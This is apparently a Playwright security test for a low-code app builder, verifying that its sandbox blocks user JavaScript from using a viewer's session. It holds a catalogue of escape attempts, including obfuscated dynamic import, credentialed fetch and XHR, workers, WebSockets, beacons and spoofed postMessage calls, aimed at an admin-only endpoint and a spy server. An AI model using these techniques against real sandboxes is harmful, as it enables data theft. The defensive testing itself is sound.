"""User JavaScript cannot make requests with the viewer's session (issue 11, finding 3).

A Developer publishes an app whose binding, event handler and JS object try every known way out
of the engine: dynamic import through `Function`, fetch, XHR, nested workers, importScripts,
WebSocket, WebSocketStream, EventSource, FontFace, sendBeacon, Image, the global object through
`constructor`, postMessage spoofing, Cache Storage, IndexedDB and document.cookie. The workspace's
Administrator opens it in real Chromium. Each escape aims at the admin-only invite list of the
workspace, and again at a spy server on the same host (a cookie for 127.0.0.1 goes to every port).

Checked where it matters: the Lowcraft server logs no request for the invite list, the spy
server receives nothing at all, the invited address never reaches the page, and every escape
reports that it was stopped.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest

from tests.e2e.viewer_helpers import PASSWORD, api_call, sign_up_later_user
from tests.servers import http_server

pytestmark = pytest.mark.e2e

TIMEOUT = 20_000
SECRET_INVITEE = "secret-invitee@example.com"

# Every attempt gets a target URL; it resolves with what it read, or throws/rejects when stopped.
# Fire-and-forget attempts resolve with 'sent: ...': the servers' records say whether they got out.
# Names are reached as user code would write them (unknown names fall through to the global).
ATTEMPTS = r"""
const attempts = {
  dynamicImport: (url) => Function('u', 'return im' + 'port(u, { with: { type: "json" } })')(url).then((m) => JSON.stringify(m.default)),
  evalImport: (url) => eval('im' + 'port(url)').then(() => 'module loaded'),
  fetch: (url) => fetch(url, { credentials: 'include' }).then((r) => r.text()),
  xmlHttpRequest: (url) => new Promise((ok, fail) => {
    const x = new XMLHttpRequest();
    x.open('GET', url);
    x.withCredentials = true;
    x.onload = () => ok(x.responseText);
    x.onerror = () => fail(new Error('network error'));
    x.send();
  }),
  nestedWorker: (url) => new Promise((ok, fail) => {
    const code = 'fetch(' + JSON.stringify(url) + ', { credentials: "include" }).then((r) => r.text()).then(postMessage, (e) => postMessage("failed: " + e))';
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    w.onmessage = (e) => (String(e.data).startsWith('failed') ? fail(new Error(e.data)) : ok(e.data));
    w.onerror = () => fail(new Error('worker error'));
  }),
  importScripts: (url) => { importScripts(url); return 'script loaded'; },
  webSocket: (url) => new Promise((ok, fail) => {
    const s = new WebSocket(url.replace(/^http/, 'ws'));
    s.onopen = () => ok('open');
    s.onerror = () => fail(new Error('socket error'));
  }),
  webSocketStream: (url) => new WebSocketStream(url.replace(/^http/, 'ws')).opened.then(() => 'open'),
  eventSource: (url) => new Promise((ok, fail) => {
    const s = new EventSource(url, { withCredentials: true });
    s.onopen = () => ok('open');
    s.onerror = () => { s.close(); fail(new Error('event source error')); };
  }),
  fontFace: (url) => new FontFace('Escape', 'url(' + url + ')').load().then(() => 'font loaded'),
  sendBeacon: (url) => (navigator.sendBeacon(url, 'x') ? 'sent: beacon queued' : Promise.reject(new Error('refused'))),
  image: (url) => new Promise((ok, fail) => {
    const i = new Image();
    i.onload = () => ok('image loaded');
    i.onerror = () => fail(new Error('image error'));
    i.src = url;
  }),
  globalObject: (url) => (() => {}).constructor('return this')().fetch(url, { credentials: 'include' }).then((r) => r.text()),
  parentPostMessage: () => {
    const spoof = { type: 'executeAction', requestId: 1, request: { action: 'spoofed', actionId: 'spoofed', params: {} } };
    globalThis.parent.postMessage({ type: 'lowcraft-sandbox-ready' }, '*');
    globalThis.parent.postMessage(spoof, '*');
    return 'sent: posted to the page';
  },
  caches: (url) => caches.open('escape').then((c) => c.add(url)).then(() => 'cached'),
  indexedDB: () => new Promise((ok, fail) => {
    const r = indexedDB.open('lowcraft-escape');
    r.onsuccess = () => ok('opened a database of the origin');
    r.onerror = () => fail(r.error);
  }),
  documentCookie: () => 'cookie: ' + document.cookie,
};
"""

# Runs every attempt against every target; resolves with `{"<attempt>@<target>": outcome}`.
RUNNER = r"""
function attempt(run, url) {
  const stopped = (e) => 'stopped: ' + String((e && e.message) || e);
  const late = new Promise((ok) => setTimeout(() => ok('stopped: no answer in 5 s'), 5000));
  let started;
  try {
    started = Promise.resolve(run(url)).then((v) => (String(v).startsWith('sent: ') ? String(v) : 'REACHED: ' + String(v)), stopped);
  } catch (e) {
    started = Promise.resolve(stopped(e));
  }
  return Promise.race([started, late]);
}

async function runAll(targets) {
  const runs = [];
  for (const [name, run] of Object.entries(attempts)) {
    for (const [where, url] of Object.entries(targets)) {
      const marked = url + (url.includes('?') ? '&' : '?') + 'escape=' + name;
      runs.push(attempt(run, marked).then((outcome) => [name + '@' + where, outcome]));
    }
  }
  return Object.fromEntries(await Promise.all(runs));
}
"""

PROBE_OBJECT = ATTEMPTS + RUNNER + r"""
export default {
  async probeAll() {
    await storeValue('escapes', await runAll(%(targets)s));
  },
}
"""

# The finding's own code, as a binding (it runs when the page loads) and as an event handler.
BINDING = "{{ Function('return im' + 'port(%(url)s, { with: { type: \"json\" } })')() ? 'binding ran' : '' }}"
HANDLER = (
    "{{ Function('return im' + 'port(%(url)s, { with: { type: \"json\" } })')()"
    ".then((m) => storeValue('handler', 'REACHED: ' + JSON.stringify(m.default)), (e) => storeValue('handler', 'stopped: ' + e.message)) }}"
)


@dataclass
class Spy:
    """An HTTP server that records every request it gets: method, path and the Cookie header."""

    url: str
    requests: list[tuple[str, str, str | None]] = field(default_factory=list)


@pytest.fixture
def spy() -> Iterator[Spy]:
    recorded: list[tuple[str, str, str | None]] = []

    class Recorder(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return

        def answer(self) -> None:
            recorded.append((self.command, self.path, self.headers.get("Cookie")))
            body = json.dumps({"spy": "reached"}).encode()
            self.send_response(200)
            # Readable from anywhere, so that a request that got out would also show on the page.
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin") or "*")
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PUT = do_OPTIONS = answer

    with http_server(Recorder) as url:
        yield Spy(f"{url}/spy", recorded)


def escape_app(api: str, spy: str) -> dict[str, Any]:
    targets = json.dumps({"api": api, "spy": spy})

    def widget(name: str, kind: str, top: int, **props: Any) -> dict[str, Any]:
        return {"widgetId": name.lower(), "widgetName": name, "type": kind, "leftColumn": 0, "rightColumn": 64,
                "topRow": top, "bottomRow": top + 6, **props}

    return {
        "format": "lowcraft-app",
        "formatVersion": 1,
        "application": {"name": "Escapes", "slug": "escapes", "icon": "table", "theme": {},
                        "settings": {"navigation": "top", "publicAccess": False, "frameAncestors": []}},
        "datasources": [],
        "pages": [{
            "name": "Escapes", "slug": "escapes", "isDefault": True, "hidden": False,
            "dsl": {
                "widgetId": "0", "widgetName": "MainContainer", "type": "CANVAS_WIDGET",
                "leftColumn": 0, "rightColumn": 64, "topRow": 0, "bottomRow": 100,
                "children": [
                    widget("BindingEscape", "TEXT_WIDGET", 0, text=BINDING % {"url": json.dumps(api + "?escape=binding")}),
                    widget("ProbeAll", "BUTTON_WIDGET", 7, text="Probe all", onClick="{{ Escapes.probeAll() }}"),
                    widget("HandlerEscape", "BUTTON_WIDGET", 14, text="Probe handler",
                           onClick=HANDLER % {"url": json.dumps(api + "?escape=handler")}),
                    widget("Outcomes", "TEXT_WIDGET", 21, text="{{ JSON.stringify(appsmith.store.escapes || null) }}"),
                    widget("HandlerOutcome", "TEXT_WIDGET", 28, text="{{ appsmith.store.handler || 'pending' }}"),
                ],
            },
            "actions": [],
            "jsObjects": [{"name": "Escapes", "body": PROBE_OBJECT % {"targets": targets}}],
        }],
    }


ATTEMPT_NAMES = re.findall(r"^  (\w+): ", ATTEMPTS, flags=re.MULTILINE)


def open_escape_app(tab: Any, chromium: Any, server: Any, spy: Spy) -> tuple[str, int]:
    """The Administrator's workspace with an admin-only invite list, the escape app published in it
    by a Developer and opened by the Administrator. Returns the invite list's URL and where the
    server's log stood before the app was opened."""
    from playwright.sync_api import expect

    api_call(tab.request, "POST", "/auth/signup", {"email": "admin@example.com", "password": PASSWORD, "name": "Ada Admin"}, expect=201)
    workspace = api_call(tab.request, "GET", "/workspaces")["workspaces"][0]["id"]
    api_call(tab.request, "POST", f"/workspaces/{workspace}/invites", {"email": SECRET_INVITEE, "role": "viewer"}, expect=201)
    api_call(tab.request, "POST", f"/workspaces/{workspace}/invites", {"email": "dev@example.com", "role": "developer"}, expect=201)
    invites = f"{server.url}/api/v1/workspaces/{workspace}/invites"

    developer = chromium.new_context(base_url=server.url)
    try:
        sign_up_later_user(developer.request, server, "dev@example.com", "Dan Dev")
        api_call(developer.request, "GET", f"/workspaces/{workspace}/invites", expect=403)
        app = api_call(developer.request, "POST", f"/workspaces/{workspace}/applications/import",
                       {"document": escape_app(invites, spy.url)}, expect=201)
        api_call(developer.request, "POST", f"/applications/{app['id']}/publish")
    finally:
        developer.close()

    log_before = len(server.log())
    tab.goto("/app/escapes")
    expect(tab.locator("[data-widget=BindingEscape]")).to_have_text("binding ran", timeout=TIMEOUT)
    return invites, log_before


def assert_nothing_got_out(outcomes: dict[str, str], tab: Any, server: Any, log_before: int, spy: Spy) -> None:
    reached = {name: outcome for name, outcome in outcomes.items() if not outcome.startswith(("stopped: ", "sent: "))}
    assert reached == {}, f"escapes that got through: {reached}"
    time.sleep(1)  # a request sent by the binding on page load would have arrived long before this
    assert SECRET_INVITEE not in tab.content()
    api_requests = [line for line in server.log()[log_before:].splitlines() if "/invites" in line or "spoofed" in line]
    assert api_requests == [], "user code made requests to Lowcraft's API, or had the page make them"
    assert spy.requests == [], "user code made requests out of its sandbox"


def test_bindings_handlers_and_js_objects_cannot_use_the_viewers_session(
    page: Any, browser: Any, live_server: Any, spy: Spy
) -> None:
    from playwright.sync_api import expect

    _, log_before = open_escape_app(page, browser, live_server, spy)
    page.get_by_role("button", name="Probe handler").click()
    page.get_by_role("button", name="Probe all").click()
    expect(page.locator("[data-widget=HandlerOutcome]")).not_to_have_text("pending", timeout=TIMEOUT)
    expect(page.locator("[data-widget=Outcomes]")).not_to_have_text("null", timeout=TIMEOUT)
    outcomes: dict[str, str] = json.loads(page.locator("[data-widget=Outcomes]").inner_text())
    outcomes["handler@api"] = page.locator("[data-widget=HandlerOutcome]").inner_text()

    assert set(outcomes) == {f"{n}@{w}" for n in ATTEMPT_NAMES for w in ("api", "spy")} | {"handler@api"}
    assert_nothing_got_out(outcomes, page, live_server, log_before, spy)


def test_the_sandbox_stops_them_without_the_list_of_removed_globals(
    page: Any, browser: Any, live_server: Any, spy: Spy
) -> None:
    """The same escapes in the sandbox document itself, where nothing was removed from the global
    object: its origin and policy alone must stop them (what the engine's worker inherits)."""
    invites, log_before = open_escape_app(page, browser, live_server, spy)
    frames = [f for f in page.frames if f.url.endswith("/sandbox/engine.html")]
    assert len(frames) == 1, "the engine should run in one sandbox frame"
    sandbox = frames[0]
    assert sandbox.evaluate("self.origin") == "null"
    assert sandbox.evaluate("typeof fetch + typeof XMLHttpRequest + typeof WebSocket") == "functionfunctionfunction"

    outcomes: dict[str, str] = sandbox.evaluate(
        "async (targets) => {" + ATTEMPTS + RUNNER + "return runAll(targets); }", {"api": invites, "spy": spy.url}
    )
    assert set(outcomes) == {f"{n}@{w}" for n in ATTEMPT_NAMES for w in ("api", "spy")}
    assert_nothing_got_out(outcomes, page, live_server, log_before, spy)
